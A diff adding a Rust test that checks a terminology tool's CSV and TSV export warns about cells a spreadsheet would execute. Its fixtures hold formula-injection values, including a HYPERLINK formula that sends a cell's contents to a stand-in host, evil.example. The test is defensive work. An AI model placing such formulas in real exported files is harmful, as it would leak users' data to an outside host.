@@ -1236,6 +1236,44 @@ fn a_csv_export_warns_of_terms_a_spreadsheet_would_run() {
     assert!(out.stderr.is_empty(), "TBX is no spreadsheet: {out:?}");
 }
 
+/// A domain, a client or a note runs in a spreadsheet as readily as a
+/// term does: each is named, and kept as written.
+#[test]
+fn a_csv_export_warns_of_every_cell_a_spreadsheet_would_run() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = empty_bank(dir.path(), "b");
+    term(
+        &root,
+        "invoice",
+        "factuur",
+        "approved",
+        &["@SUM(1+1)"],
+        Some("=1+2"),
+        "2026-01-15",
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    );
+    for format in ["csv", "tsv"] {
+        let out = run(&["terms", "export", s(&root), "--format", format]);
+        assert_eq!(out.status.code(), Some(0), "{out:?}");
+        let err = String::from_utf8_lossy(&out.stderr);
+        for named in [
+            "domain “=1+2”",
+            "client “@SUM(1+1)”",
+            "the note of 02_TERMINOLOGY/invoice → factuur.md",
+        ] {
+            assert!(
+                err.contains("warning") && err.contains(named),
+                "{format}: {named}: {err}"
+            );
+        }
+        assert!(!err.contains("term “"), "no term is risky: {err}");
+        assert!(
+            stdout(&out).contains("=1+2"),
+            "the domain is kept as written"
+        );
+    }
+}
+
 #[test]
 fn import_names_each_row_it_leaves_out() {
     let dir = tempfile::tempdir().unwrap();
